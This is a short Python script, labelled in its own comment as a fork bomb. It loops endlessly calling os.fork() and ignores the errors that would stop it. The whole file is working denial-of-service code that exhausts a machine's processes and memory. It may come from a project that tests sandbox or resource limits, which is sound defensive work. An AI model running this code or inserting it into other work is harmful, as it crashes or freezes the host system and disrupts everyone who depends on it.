# SPDX-License-Identifier: Apache-2.0
#
# A fork bomb; each of them spins.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
